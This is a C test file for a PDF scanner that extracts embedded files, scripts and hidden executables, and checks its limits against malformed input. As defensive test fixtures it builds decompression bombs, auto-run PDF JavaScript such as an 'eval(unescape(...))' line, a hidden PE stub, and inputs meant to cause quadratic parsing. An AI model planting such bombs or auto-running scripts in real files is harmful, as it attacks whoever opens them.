/*
 * test_pdf.c - PDF documents give up their embedded files, scripts and
 * hidden programs; broken, cyclic, encrypted and bomb PDFs stay bounded.
 *
 * Every PDF is built here from plain strings; filters (Flate via zlib,
 * predictors, ASCIIHex, ASCII85, LZW) and the standard security handler are
 * encoded from the PDF specification, independently of the extractor.
 */
#include <openssl/evp.h>
#include <stdbool.h>
#include <zlib.h>

#include "testutil.h"

/* ---- building PDFs ---- */

static GString *pdf_begin(void)
{
	return g_string_new("%PDF-1.7\n%\xe2\xe3\xcf\xd3\n");
}

static void pdf_obj(GString *g, int num, const char *body)
{
	g_string_append_printf(g, "%d 0 obj\n%s\nendobj\n", num, body);
}

/* a stream object; length < 0: the real length */
static void pdf_stream_len(GString *g, int num, const char *dict, const void *data, size_t n,
                           long length)
{
	g_string_append_printf(g, "%d 0 obj\n<< %s /Length %ld >>\nstream\n", num, dict,
	                       length < 0 ? (long)n : length);
	g_string_append_len(g, data, (gssize)n);
	g_string_append(g, "\nendstream\nendobj\n");
}

static void pdf_stream(GString *g, int num, const char *dict, const void *data, size_t n)
{
	pdf_stream_len(g, num, dict, data, n, -1);
}

static void pdf_end(GString *g, const char *trailer_extra)
{
	g_string_append_printf(
	        g,
	        "xref\n0 1\n0000000000 65535 f \ntrailer\n<< /Size 40 /Root 1 0 R %s "
	        ">>\nstartxref\n0\n%%%%EOF\n",
	        trailer_extra ? trailer_extra : "");
}

static GByteArray *zdeflate(const void *p, size_t n)
{
	uLongf out = compressBound((uLong)n);
	GByteArray *b = g_byte_array_sized_new((guint)out);

	g_byte_array_set_size(b, (guint)out);
	assert_int_equal(compress(b->data, &out, p, (uLong)n), Z_OK);
	g_byte_array_set_size(b, (guint)out);
	return b;
}

static uint8_t paeth(uint8_t a, uint8_t b, uint8_t c)
{
	int p = a + b - c, pa = abs(p - a), pb = abs(p - b), pc = abs(p - c);

	if (pa <= pb && pa <= pc)
		return a;
	return pb <= pc ? b : c;
}

/* PNG prediction with row filters cycling through all five types */
static GByteArray *png_predict(const uint8_t *p, size_t n, size_t row, size_t bpp)
{
	GByteArray *b = g_byte_array_new();
	size_t rows = (n + row - 1) / row;

	for (size_t r = 0; r < rows; r++) {
		uint8_t tag = (uint8_t)(r % 5);
		size_t len = n - r * row < row ? n - r * row : row;
		const uint8_t *cur = p + r * row, *up = r > 0 ? p + (r - 1) * row : NULL;

		g_byte_array_append(b, &tag, 1);
		for (size_t k = 0; k < len; k++) {
			uint8_t a = k >= bpp ? cur[k - bpp] : 0, u = up ? up[k] : 0;
			uint8_t c = (k >= bpp && up) ? up[k - bpp] : 0, v = cur[k];

			switch (tag) {
			case 1:
				v = (uint8_t)(v - a);
				break;
			case 2:
				v = (uint8_t)(v - u);
				break;
			case 3:
				v = (uint8_t)(v - ((a + u) >> 1));
				break;
			case 4:
				v = (uint8_t)(v - paeth(a, u, c));
				break;
			}
			g_byte_array_append(b, &v, 1);
		}
	}
	return b;
}

static GString *hex_encode(const uint8_t *p, size_t n)
{
	GString *g = g_string_new(NULL);

	for (size_t i = 0; i < n; i++) {
		g_string_append_printf(g, "%02X", p[i]);
		if (i % 32 == 31)
			g_string_append_c(g, '\n');
	}
	g_string_append_c(g, '>');
	return g;
}

static GString *a85_encode(const uint8_t *p, size_t n)
{
	GString *g = g_string_new(NULL);

	for (size_t i = 0; i < n; i += 4) {
		size_t k = n - i < 4 ? n - i : 4;
		uint32_t v = 0;
		char c[5];

		for (size_t j = 0; j < 4; j++)
			v = v << 8 | (j < k ? p[i + j] : 0);
		if (v == 0 && k == 4) {
			g_string_append_c(g, 'z');
			continue;
		}
		for (int j = 4; j >= 0; j--) {
			c[j] = (char)('!' + v % 85);
			v /= 85;
		}
		g_string_append_len(g, c, (gssize)k + 1);
		if (i % 64 == 60)
			g_string_append_c(g, '\n');
	}
	g_string_append(g, "~>");
	return g;
}

struct bits {
	GByteArray *b;
	uint32_t acc;
	int n;
};

static void put_code(struct bits *w, unsigned code, unsigned width)
{
	w->acc = w->acc << width | code;
	w->n += (int)width;
	while (w->n >= 8) {
		uint8_t c = (uint8_t)(w->acc >> (w->n - 8));

		g_byte_array_append(w->b, &c, 1);
		w->n -= 8;
	}
}

/* LZW with EarlyChange 1; the width follows the decoder's table size */
static GByteArray *lzw_encode(const uint8_t *p, size_t n)
{
	GHashTable *dict = g_hash_table_new(g_direct_hash, g_direct_equal);
	struct bits w = {g_byte_array_new(), 0, 0};
	unsigned next = 258, bits = 9, dnext = 258, emitted = 0;
	int cur = -1;

	put_code(&w, 256, bits);
	for (size_t i = 0; i < n; i++) {
		unsigned key = (unsigned)cur << 8 | p[i];
		gpointer hit;

		if (cur < 0) {
			cur = p[i];
			continue;
		}
		hit = g_hash_table_lookup(dict, GUINT_TO_POINTER(key + 1));
		if (hit != NULL) {
			cur = GPOINTER_TO_INT(hit);
			continue;
		}
		put_code(&w, (unsigned)cur, bits);
		if (++emitted >= 2) {
			dnext++;
			if (dnext + 1 >= (1u << bits) && bits < 12)
				bits++;
		}
		assert_true(next < 4096); /* test data is small enough */
		g_hash_table_insert(dict, GUINT_TO_POINTER(key + 1), GINT_TO_POINTER(next++));
		cur = p[i];
	}
	put_code(&w, (unsigned)cur, bits);
	if (++emitted >= 2) {
		dnext++;
		if (dnext + 1 >= (1u << bits) && bits < 12)
			bits++;
	}
	put_code(&w, 257, bits);
	if (w.n > 0)
		put_code(&w, 0, (unsigned)(8 - w.n));
	g_hash_table_destroy(dict);
	return w.b;
}

static void payload(uint8_t *p, size_t n, unsigned seed)
{
	uint32_t x = seed * 2654435761u + 1;

	for (size_t i = 0; i < n; i++) {
		x = x * 1103515245u + 12345u;
		/* half text-like, half noise: compresses and predicts non-trivially */
		p[i] = (i / 64) % 2 ? (uint8_t)('a' + (i * 7 + (i >> 5)) % 26) : (uint8_t)(x >> 16);
	}
}

/* ---- scanning ---- */

static vigil_scan *scan(GString *pdf)
{
	vigil_engine *e = tu_engine(NULL, NULL);
	vigil_scan *s = tu_scan(e, pdf->str, pdf->len, "doc.pdf");

	vigil_engine_unref(e);
	return s;
}

static const vigil_object *must(const vigil_scan *s, const char *suffix)
{
	const vigil_object *o = tu_object(s, suffix);

	if (o == NULL) {
		fprintf(stderr, "no object *%s\n", suffix);
		tu_dump(s);
	}
	assert_non_null(o);
	return o;
}

static void assert_data(const vigil_object *o, const void *p, size_t n)
{
	size_t len;
	const uint8_t *d = vigil_object_data(o, &len);

	assert_int_equal(len, n);
	assert_memory_equal(d, p, n);
}

static size_t children(const vigil_scan *s)
{
	size_t c = 0;

	for (size_t i = 0; i < vigil_scan_object_count(s); i++)
		if (vigil_object_parent(vigil_scan_object(s, i)) == 0)
			c++;
	return c;
}

static const char catalog_plain[] = "<< /Type /Catalog /Pages 2 0 R >>";
static const char pages[] = "<< /Type /Pages /Kids [3 0 R] /Count 1 >>";
static const char page[] =
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>";
static const char content[] = "BT /F1 12 Tf 72 712 Td (Hello) Tj ET";

static void add_page(GString *g)
{
	GByteArray *z = zdeflate(content, strlen(content));

	pdf_obj(g, 2, pages);
	pdf_obj(g, 3, page);
	pdf_stream(g, 4, "/Filter /FlateDecode", z->data, z->len);
	g_byte_array_free(z, TRUE);
}

/* ---- tests ---- */

static void embedded_file_flate_png_predictor(void **state)
{
	uint8_t data[3000];
	GByteArray *pred, *z;
	GString *g = pdf_begin();
	vigil_scan *s;
	const vigil_object *o;

	(void)state;
	payload(data, sizeof data, 1);
	pred = png_predict(data, sizeof data, 48, 3); /* Colors 3 x Columns 16 */
	z = zdeflate(pred->data, pred->len);
	pdf_obj(g, 1, "<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles 9 0 R >> >>");
	add_page(g);
	pdf_obj(g, 9, "<< /Names [(ignored-key) 5 0 R] >>");
	/* /UF: UTF-16BE "báo cáo.bin"; /F is the legacy name */
	pdf_obj(g, 5,
	        "<< /Type /Filespec /F (old.bin) /UF <FEFF006200E1006F00200063\n"
	        "00E1006F002E00620069006E> /EF << /F 6 0 R >> >>");
	pdf_stream(g, 6,
	           "/Type /EmbeddedFile /Subtype /application#2Foctet-stream /Params << /Size 3000 "
	           ">> /Filter /FlateDecode /DecodeParms << /Predictor 12 /Colors 3 "
	           "/BitsPerComponent 8 /Columns 16 >>",
	           z->data, z->len);
	pdf_end(g, NULL);
	s = scan(g);
	assert_string_equal(vigil_object_type(vigil_scan_object(s, 0)), "pdf");
	o = must(s, "doc.pdf/báo cáo.bin");
	assert_string_equal(vigil_object_name(o), "báo cáo.bin");
	assert_string_equal(vigil_object_content_type(o), "application/octet-stream");
	assert_data(o, data, sizeof data);
	assert_int_equal(children(s), 1); /* the page content is not an object */
	assert_int_equal(tu_finding(s, "decode.error"), -1);
	assert_int_equal(tu_finding(s, "pdf.malformed"), -1);
	assert_int_equal(tu_finding(s, "limit.*"), -1);
	vigil_scan_free(s);
	g_byte_array_free(pred, TRUE);
	g_byte_array_free(z, TRUE);
	g_string_free(g, TRUE);
}

static void javascript_string_and_stream(void **state)
{
	const char js2[] = "var n = this.numPages;\nthis.exportDataObject({cName: \"x\"});\n";
	GByteArray *z = zdeflate(js2, strlen(js2));
	GString *g = pdf_begin();
	vigil_scan *s;

	(void)state;
	pdf_obj(g, 1,
	        "<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS "
	        "(app.alert\\('hi \\(1\\)'\\);\\nvar s = \"\\101\\102\";\\\n// end) >> "
	        "/Names << /JavaScript 7 0 R >> >>");
	add_page(g);
	pdf_obj(g, 7, "<< /Names [(init) << /S /JavaScript /JS 8 0 R >>] >>");
	/* the same script again, as a string: one object for both */
	pdf_obj(g, 10,
	        "<< /Annots [ << /AA << /K << /JS (app.alert\\('hi \\(1\\)'\\);\\n"
	        "var s = \\\"AB\\\";// end) >> >> >> ] >>");
	pdf_stream(g, 8, "/Filter /FlateDecode", z->data, z->len);
	pdf_end(g, NULL);
	s = scan(g);
	{
		const char want[] = "app.alert('hi (1)');\nvar s = \"AB\";// end";

		assert_data(must(s, "doc.pdf/javascript-1.js"), want, strlen(want));
	}
	assert_data(must(s, "doc.pdf/javascript-2.js"), js2, strlen(js2));
	assert_int_equal(children(s), 2);
	vigil_scan_free(s);
	g_byte_array_free(z, TRUE);
	g_string_free(g, TRUE);
}

static void objects_inside_object_streams(void **state)
{
	const char file[] = "hidden payload behind an object stream";
	const char *objs[] = {
	        "<< /Type /Filespec /UF (secret.txt) /EF << /F 12 0 R >> >>",
	        "<< /S /JavaScript /JS (eval\\(unescape\\('%75'\\)\\)) >>",
	        "<< /Type /Catalog /Pages 2 0 R /OpenAction 11 0 R >>",
	};
	const int nums[] = {10, 11, 1};
	GString *hdr = g_string_new(NULL), *body = g_string_new(NULL), *all;
	GByteArray *z, *zf = zdeflate(file, strlen(file));
	GString *g = pdf_begin();
	char dict[128];
	vigil_scan *s;

	(void)state;
	for (int i = 0; i < 3; i++) {
		g_string_append_printf(hdr, "%d %zu ", nums[i], body->len);
		g_string_append_printf(body, "%s\n", objs[i]);
	}
	all = g_string_new(hdr->str);
	g_string_append(all, body->str);
	z = zdeflate(all->str, all->len);
	g_snprintf(dict, sizeof dict, "/Type /ObjStm /N 3 /First %zu /Filter /FlateDecode",
	           hdr->len);
	add_page(g);
	pdf_stream(g, 20, dict, z->data, z->len);
	/* the file stream itself: no /Type, found only through the file spec */
	pdf_stream(g, 12, "/Filter /FlateDecode", zf->data, zf->len);
	pdf_end(g, NULL);
	s = scan(g);
	assert_data(must(s, "doc.pdf/secret.txt"), file, strlen(file));
	assert_data(must(s, "doc.pdf/javascript-1.js"), "eval(unescape('%75'))", 21);
	assert_int_equal(children(s), 2);
	vigil_scan_free(s);
	g_string_free(hdr, TRUE);
	g_string_free(body, TRUE);
	g_string_free(all, TRUE);
	g_byte_array_free(z, TRUE);
	g_byte_array_free(zf, TRUE);
	g_string_free(g, TRUE);
}

/* one embedded file per filter setup, found by /Type /EmbeddedFile alone */
static vigil_scan *one_embedded(const char *dict, const void *enc, size_t n)
{
	GString *g = pdf_begin();
	char full[512];
	vigil_scan *s;

	pdf_obj(g, 1, catalog_plain);
	add_page(g);
	g_snprintf(full, sizeof full, "/Type /EmbeddedFile %s", dict);
	pdf_stream(g, 6, full, enc, n);
	pdf_end(g, NULL);
	s = scan(g);
	g_string_free(g, TRUE);
	return s;
}

static void asciihex_flate_chain(void **state)
{
	uint8_t data[2000];
	GByteArray *z;
	GString *h;
	vigil_scan *s;

	(void)state;
	payload(data, sizeof data, 2);
	z = zdeflate(data, sizeof data);
	h = hex_encode(z->data, z->len);
	s = one_embedded("/Filter [/ASCIIHexDecode /FlateDecode]", h->str, h->len);
	assert_data(must(s, "doc.pdf/embedded-6"), data, sizeof data);
	assert_int_equal(tu_finding(s, "decode.error"), -1);
	vigil_scan_free(s);
	g_byte_array_free(z, TRUE);
	g_string_free(h, TRUE);
}

static void ascii85(void **state)
{
	uint8_t data[1001];
	GString *a;
	vigil_scan *s;

	(void)state;
	payload(data, sizeof data, 3);
	memset(data + 100, 0, 8); /* exercises 'z' */
	a = a85_encode(data, sizeof data);
	s = one_embedded("/Filter /A85", a->str, a->len);
	assert_data(must(s, "doc.pdf/embedded-6"), data, sizeof data);
	assert_int_equal(tu_finding(s, "decode.error"), -1);
	vigil_scan_free(s);
	g_string_free(a, TRUE);
}

static void runlength(void **state)
{
	/* "abc", then 'x' repeated 100 times, then "de", then end of data */
	const uint8_t rl[] = {2, 'a', 'b', 'c', 157, 'x', 1, 'd', 'e', 128, 'j', 'u', 'n', 'k'};
	uint8_t want[105];
	vigil_scan *s;

	(void)state;
	memcpy(want, "abc", 3);
	memset(want + 3, 'x', 100);
	memcpy(want + 103, "de", 2);
	s = one_embedded("/Filter /RunLengthDecode", rl, sizeof rl);
	assert_data(must(s, "doc.pdf/embedded-6"), want, sizeof want);
	assert_int_equal(tu_finding(s, "decode.error"), -1);
	vigil_scan_free(s);
}

static void lzw_with_tiff_predictor(void **state)
{
	uint8_t data[1800], pred[1800];
	GByteArray *l;
	vigil_scan *s;

	(void)state;
	payload(data, sizeof data, 4);
	/* TIFF predictor 2: 3 colours x 10 columns = 30-byte rows */
	for (size_t r = 0; r < sizeof data / 30; r++)
		for (size_t k = 0; k < 30; k++)
			pred[r * 30 + k] =
			        (uint8_t)(data[r * 30 + k] - (k >= 3 ? data[r * 30 + k - 3] : 0));
	l = lzw_encode(pred, sizeof pred);
	s = one_embedded("/Filter /LZWDecode /DecodeParms << /Predictor 2 /Colors 3 /Columns 10 >>",
	                 l->data, l->len);
	assert_data(must(s, "doc.pdf/embedded-6"), data, sizeof data);
	assert_int_equal(tu_finding(s, "decode.error"), -1);
	vigil_scan_free(s);
	g_byte_array_free(l, TRUE);
}

static void lying_lengths(void **state)
{
	const char a[] = "first file, its /Length says 9999";
	const char b[] = "second file, its /Length says 3";
	const char c[] = "third: binary data with endstream inside: endstream ok";
	GString *g = pdf_begin();
	vigil_scan *s;

	(void)state;
	pdf_obj(g, 1, catalog_plain);
	add_page(g);
	pdf_stream_len(g, 6, "/Type /EmbeddedFile", a, strlen(a), 9999);
	pdf_stream_len(g, 7, "/Type /EmbeddedFile", b, strlen(b), 3);
	/* a true /Length is believed even when the data holds "endstream" */
	pdf_stream(g, 8, "/Type /EmbeddedFile", c, strlen(c));
	/* ... also an indirect one, resolved after the scan */
	g_string_append_printf(g,
	                       "9 0 obj\n<< /Type /EmbeddedFile /Length 40 0 R >>\nstream\n%s"
	                       "\nendstream\nendobj\n",
	                       c);
	g_string_append_printf(g, "40 0 obj\n%zu\nendobj\n", strlen(c));
	pdf_end(g, NULL);
	s = scan(g);
	assert_data(must(s, "doc.pdf/embedded-6"), a, strlen(a));
	assert_data(must(s, "doc.pdf/embedded-7"), b, strlen(b));
	assert_data(must(s, "doc.pdf/embedded-8"), c, strlen(c));
	assert_data(must(s, "doc.pdf/embedded-9"), c, strlen(c));
	assert_true(tu_finding(s, "pdf.malformed") >= 0);
	assert_int_equal(children(s), 4);
	vigil_scan_free(s);
	g_string_free(g, TRUE);
}

static void flate_bomb_hits_a_limit(void **state)
{
	static uint8_t zero[1 << 20];
	GByteArray *z = g_byte_array_new();
	z_stream zs;
	uint8_t out[65536];
	GString *g = pdf_begin();
	vigil_scan *s;
	const vigil_object *o;
	size_t len;
	gint64 t0;

	(void)state;
	memset(&zs, 0, sizeof zs);
	assert_int_equal(deflateInit(&zs, 6), Z_OK);
	for (int i = 0; i < 200; i++) { /* 200 MiB of zeros */
		zs.next_in = zero;
		zs.avail_in = sizeof zero;
		do {
			zs.next_out = out;
			zs.avail_out = sizeof out;
			deflate(&zs, i == 199 ? Z_FINISH : Z_NO_FLUSH);
			g_byte_array_append(z, out, (guint)(sizeof out - zs.avail_out));
		} while (zs.avail_out == 0);
	}
	deflateEnd(&zs);
	assert_true(z->len < 400000);
	pdf_obj(g, 1, catalog_plain);
	add_page(g);
	pdf_obj(g, 5, "<< /Type /Filespec /F (zeros.bin) /EF << /F 6 0 R >> >>");
	pdf_stream(g, 6, "/Type /EmbeddedFile /Filter /FlateDecode", z->data, z->len);
	pdf_end(g, NULL);
	t0 = g_get_monotonic_time();
	s = scan(g);
	assert_true(g_get_monotonic_time() - t0 < 20 * G_USEC_PER_SEC);
	o = must(s, "doc.pdf/zeros.bin");
	assert_true(vigil_object_flags(o) & VIGIL_OBJ_TRUNCATED);
	(void)vigil_object_data(o, &len);
	/* ratio limit: 250 x the PDF's size, far below 200 MiB */
	assert_true(len <= 250 * g->len);
	assert_true(len > 0);
	assert_true(tu_finding(s, "limit.ratio") >= 0);
	assert_int_not_equal(vigil_scan_verdict(s), VIGIL_CLEAN);
	vigil_scan_free(s);
	g_byte_array_free(z, TRUE);
	g_string_free(g, TRUE);
}

static void object_stream_bomb_hits_a_limit(void **state)
{
	GByteArray *z = g_byte_array_new();
	uint8_t *zero = g_malloc0(64 << 20);
	GString *g = pdf_begin();
	vigil_scan *s;
	uLongf n = compressBound(64 << 20);

	(void)state;
	g_byte_array_set_size(z, (guint)n);
	assert_int_equal(compress2(z->data, &n, zero, 64 << 20, 9), Z_OK);
	g_byte_array_set_size(z, (guint)n);
	g_free(zero);
	pdf_obj(g, 1, catalog_plain);
	add_page(g);
	pdf_stream(g, 20, "/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", z->data, z->len);
	pdf_end(g, NULL);
	s = scan(g);
	assert_true(tu_finding(s, "limit.*") >= 0);
	assert_int_not_equal(vigil_scan_verdict(s), VIGIL_CLEAN);
	vigil_scan_free(s);
	g_byte_array_free(z, TRUE);
	g_string_free(g, TRUE);
}

static void cycles_terminate(void **state)
{
	const char a[] = "named through a looping name tree";
	GString *g = pdf_begin();
	vigil_scan *s;

	(void)state;
	pdf_obj(g, 1, "<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles 10 0 R >> >>");
	add_page(g);
	/* name tree: 10 -> 11 -> 10 ... */
	pdf_obj(g, 10, "<< /Kids [11 0 R 10 0 R] >>");
	pdf_obj(g, 11, "<< /Kids [10 0 R] /Names [(looped.txt) 12 0 R] >>");
	pdf_obj(g, 12, "<< /EF << /F 13 0 R >> >>");
	/* /Length -> 30 -> 31 -> 30 ... */
	g_string_append_printf(g, "13 0 obj\n<< /Length 30 0 R >>\nstream\n%s\nendstream\nendobj\n",
	                       a);
	pdf_obj(g, 30, "31 0 R");
	pdf_obj(g, 31, "30 0 R");
	/* a file spec whose stream reference points at itself */
	pdf_obj(g, 14, "<< /EF << /F 15 0 R >> /F 15 0 R >>");
	pdf_obj(g, 15, "15 0 R");
	/* a JavaScript action whose /JS loops */
	pdf_obj(g, 16, "<< /S /JavaScript /JS 16 0 R >>");
	pdf_end(g, NULL);
	s = scan(g);
	assert_data(must(s, "doc.pdf/looped.txt"), a, strlen(a));
	assert_int_equal(children(s), 1);
	assert_true(tu_finding(s, "pdf.malformed") >= 0);
	vigil_scan_free(s);
	g_string_free(g, TRUE);
}

static void nesting_is_bounded(void **state)
{
	GString *g = pdf_begin();
	GString *deep = g_string_new(NULL);
	vigil_scan *s;

	(void)state;
	for (int i = 0; i < 5000; i++)
		g_string_append(deep, "<< /A [");
	pdf_obj(g, 1, catalog_plain);
	pdf_obj(g, 5, deep->str);
	pdf_obj(g, 6, "<< /S /JavaScript /JS (after the deep object) >>");
	pdf_end(g, NULL);
	s = scan(g);
	assert_true(tu_finding(s, "limit.pdf_structure") >= 0);
	assert_data(must(s, "doc.pdf/javascript-1.js"), "after the deep object", 21);
	vigil_scan_free(s);
	g_string_free(deep, TRUE);
	g_string_free(g, TRUE);
}

static void swallowed_objects_are_still_found(void **state)
{
	GString *g = pdf_begin();
	vigil_scan *s;

	(void)state;
	/* an unterminated string would swallow everything after it */
	pdf_obj(g, 1, "<< /Type /Catalog /Title (no closing parenthesis >>");
	pdf_obj(g, 5, "<< /S /JavaScript /JS (found anyway) >>");
	pdf_end(g, NULL);
	s = scan(g);
	assert_data(must(s, "doc.pdf/javascript-1.js"), "found anyway", 12);
	vigil_scan_free(s);
	g_string_free(g, TRUE);
}

static void rereading_is_bounded(void **state)
{
	GString *g = pdf_begin();
	vigil_scan *s;
	gint64 t0;

	(void)state;
	/* each string runs to the end of the file: quadratic without a budget */
	for (int i = 0; i < 40000; i++)
		g_string_append_printf(g, "%d 0 obj (\n", i + 1);
	t0 = g_get_monotonic_time();
	s = scan(g);
	assert_true(g_get_monotonic_time() - t0 < 10 * G_USEC_PER_SEC);
	assert_true(tu_finding(s, "limit.pdf_structure") >= 0);
	assert_int_not_equal(vigil_scan_verdict(s), VIGIL_CLEAN);
	vigil_scan_free(s);
	g_string_free(g, TRUE);
}

static void truncated_files(void **state)
{
	const char file[] = "a file that comes before the cut";
	GByteArray *z = zdeflate(file, strlen(file));
	GString *g = pdf_begin();
	vigil_engine *e = tu_engine(NULL, NULL);
	size_t cut;

	(void)state;
	pdf_obj(g, 1, "<< /Type /Catalog /Pages 2 0 R /OpenAction << /JS (app.alert\\(1\\)) >> >>");
	add_page(g);
	pdf_obj(g, 5, "<< /Type /Filespec /F (early.txt) /EF << /F 6 0 R >> >>");
	pdf_stream(g, 6, "/Type /EmbeddedFile /Filter /FlateDecode", z->data, z->len);
	cut = g->len;
	pdf_obj(g, 7, "<< /Annots [ << /A << /S /JavaScript /JS (late\\(\\)) >> >> ] >>");
	pdf_end(g, NULL);
	/* every prefix scans without harm */
	for (size_t n = 1; n < g->len; n++) {
		vigil_scan *s = tu_scan(e, g->str, n, "cut.pdf");

		vigil_scan_free(s);
	}
	/* cut after the embedded file: it is still extracted, the damage reported */
	{
		vigil_scan *s = tu_scan(e, g->str, cut + 20, "cut.pdf");

		assert_data(must(s, "cut.pdf/early.txt"), file, strlen(file));
		assert_data(must(s, "cut.pdf/javascript-1.js"), "app.alert(1)", 12);
		assert_true(tu_finding(s, "pdf.malformed") >= 0);
		vigil_scan_free(s);
	}
	/* cut inside the compressed data: a damaged stream, still a finding */
	{
		vigil_scan *s = tu_scan(e, g->str, cut - 30, "cut.pdf");

		assert_non_null(must(s, "cut.pdf/early.txt"));
		assert_true(tu_finding(s, "pdf.malformed") >= 0);
		assert_true(tu_finding(s, "decode.error") >= 0);
		vigil_scan_free(s);
	}
	vigil_engine_unref(e);
	g_byte_array_free(z, TRUE);
	g_string_free(g, TRUE);
}

static void hidden_program_and_xfa(void **state)
{
	uint8_t pe[512];
	const char xfa[] = "<xdp:xdp xmlns:xdp=\"http://ns.adobe.com/xdp/\"><template/></xdp:xdp>";
	GByteArray *z;
	GString *g = pdf_begin();
	vigil_scan *s;
	const vigil_object *o;

	(void)state;
	memset(pe, 0, sizeof pe);
	pe[0] = 'M';
	pe[1] = 'Z';
	pe[0x3c] = 0x80;
	memcpy(pe + 0x80, "PE\0\0", 4);
	z = zdeflate(pe, sizeof pe);
	pdf_obj(g, 1, "<< /Type /Catalog /Pages 2 0 R /AcroForm << /XFA [(template) 9 0 R] >> >>");
	add_page(g);
	pdf_stream(g, 8, "/Filter /FlateDecode", z->data, z->len);
	pdf_stream(g, 9, "", xfa, strlen(xfa));
	pdf_end(g, NULL);
	s = scan(g);
	o = must(s, "doc.pdf/stream-8-0");
	assert_string_equal(vigil_object_type(o), "pe");
	assert_data(o, pe, sizeof pe);
	assert_data(must(s, "doc.pdf/xfa-1.xml"), xfa, strlen(xfa));
	assert_int_equal(children(s), 2);
	vigil_scan_free(s);
	g_byte_array_free(z, TRUE);
	g_string_free(g, TRUE);
}

/* ---- the standard security handler, from ISO 32000 ---- */

static const uint8_t pad[32] = {0x28, 0xbf, 0x4e, 0x5e, 0x4e, 0x75, 0x8a, 0x41, 0x64, 0x00, 0x4e,
                                0x56, 0xff, 0xfa, 0x01, 0x08, 0x2e, 0x2e, 0x00, 0xb6, 0xd0, 0x68,
                                0x3e, 0x80, 0x2f, 0x0c, 0xa9, 0xfe, 0x64, 0x53, 0x69, 0x7a};

static void md5(const void *a, size_t an, const void *b, size_t bn, uint8_t out[16])
{
	EVP_MD_CTX *c = EVP_MD_CTX_new();
	unsigned l;

	EVP_DigestInit_ex(c, EVP_md5(), NULL);
	EVP_DigestUpdate(c, a, an);
	if (bn)
		EVP_DigestUpdate(c, b, bn);
	EVP_DigestFinal_ex(c, out, &l);
	EVP_MD_CTX_free(c);
}

static void arc4(const uint8_t *key, size_t kl, uint8_t *p, size_t n)
{
	uint8_t S[256], t;
	unsigned i, j = 0;

	for (i = 0; i < 256; i++)
		S[i] = (uint8_t)i;
	for (i = 0; i < 256; i++) {
		j = (j + S[i] + key[i % kl]) & 255;
		t = S[i], S[i] = S[j], S[j] = t;
	}
	i = j = 0;
	for (size_t k = 0; k < n; k++) {
		i = (i + 1) & 255;
		j = (j + S[i]) & 255;
		t = S[i], S[i] = S[j], S[j] = t;
		p[k] ^= S[(S[i] + S[j]) & 255];
	}
}

struct sec {
	int r; /* 3: RC4 128, 4: AESV2, 6: AESV3 */
	uint8_t key[32];
	uint8_t o[48], u[48], ue[32];
	const char *id;
};

static void sha2(const EVP_MD *md, const void *p, size_t n, uint8_t *out)
{
	unsigned l;

	EVP_Digest(p, n, out, &l, md, NULL);
}

static void aes(const EVP_CIPHER *c, const uint8_t *key, const uint8_t *iv, bool padding,
                const uint8_t *in, size_t n, uint8_t *out, size_t *outn)
{
	EVP_CIPHER_CTX *x = EVP_CIPHER_CTX_new();
	int l1 = 0, l2 = 0;

	EVP_EncryptInit_ex(x, c, NULL, key, iv);
	EVP_CIPHER_CTX_set_padding(x, padding ? 1 : 0);
	EVP_EncryptUpdate(x, out, &l1, in, (int)n);
	EVP_EncryptFinal_ex(x, out + l1, &l2);
	EVP_CIPHER_CTX_free(x);
	*outn = (size_t)(l1 + l2);
}

/*
 * ISO 32000-2 7.6.4.3.4 (algorithm 2.B) with an empty password and no user
 * key: K = SHA-256(salt); rounds of E = AES-128-CBC(64 x K, key K[0..15],
 * iv K[16..31]) and K = SHA-256/384/512(E) as E[0..15] mod 3 says, at least
 * 64 rounds and until the last byte of E is <= rounds - 32.
 */
static void hash_2b(const uint8_t salt[8], uint8_t out[32])
{
	static uint8_t k1[64 * 64], e[64 * 64];
	uint8_t k[64];
	size_t kl = 32, el;
	int rounds = 0;

	sha2(EVP_sha256(), salt, 8, k);
	for (;;) {
		unsigned mod = 0;

		for (int r = 0; r < 64; r++)
			memcpy(k1 + (size_t)r * kl, k, kl);
		aes(EVP_aes_128_cbc(), k, k + 16, false, k1, 64 * kl, e, &el);
		for (int b = 0; b < 16; b++)
			mod = (mod * 256 + e[b]) % 3;
		kl = mod == 0 ? 32 : mod == 1 ? 48 : 64;
		sha2(mod == 0 ? EVP_sha256() : mod == 1 ? EVP_sha384() : EVP_sha512(), e, el, k);
		rounds++;
		if (rounds >= 64 && e[el - 1] <= rounds - 32)
			break;
	}
	memcpy(out, k, 32);
}

/* R6: a random file key, wrapped for the empty user password */
static void sec_init6(struct sec *c)
{
	uint8_t h[32], zero[16] = {0};
	size_t n;

	c->r = 6;
	c->id = "0123456789abcdef";
	for (int i = 0; i < 32; i++)
		c->key[i] = (uint8_t)(i * 59 + 7);
	for (int i = 0; i < 48; i++)
		c->o[i] = (uint8_t)(i * 13 + 5);
	memcpy(c->u + 32, "vsaltvsa", 8);
	memcpy(c->u + 40, "ksaltksa", 8);
	hash_2b(c->u + 32, c->u);
	hash_2b(c->u + 40, h);
	aes(EVP_aes_256_cbc(), h, zero, false, c->key, 32, c->ue, &n);
	assert_int_equal(n, 32);
}

/* algorithm 2 (file key) and 5 (the /U entry) for password pw */
static void sec_init(struct sec *c, int r, const char *pw)
{
	uint8_t h[16], buf[32 + 32 + 4 + 16], x[16];
	const uint8_t p[4] = {0xfc, 0xff, 0xff, 0xff}; /* P = -4 */
	size_t pl = strlen(pw);

	c->r = r;
	c->id = "0123456789abcdef";
	for (int i = 0; i < 32; i++)
		c->o[i] = (uint8_t)(i * 37 + 11);
	memcpy(buf, pw, pl);
	memcpy(buf + pl, pad, 32 - pl);
	memcpy(buf + 32, c->o, 32);
	memcpy(buf + 64, p, 4);
	memcpy(buf + 68, c->id, 16);
	md5(buf, sizeof buf, NULL, 0, h);
	for (int i = 0; i < 50; i++)
		md5(h, 16, NULL, 0, h);
	memcpy(c->key, h, 16);
	md5(pad, 32, c->id, 16, x);
	for (int i = 0; i <= 19; i++) {
		uint8_t k[16];

		for (int b = 0; b < 16; b++)
			k[b] = (uint8_t)(c->key[b] ^ i);
		arc4(k, 16, x, 16);
	}
	memcpy(c->u, x, 16);
	memset(c->u + 16, 0x55, 16);
}

/* encrypts one string or stream of object num (generation 0) */
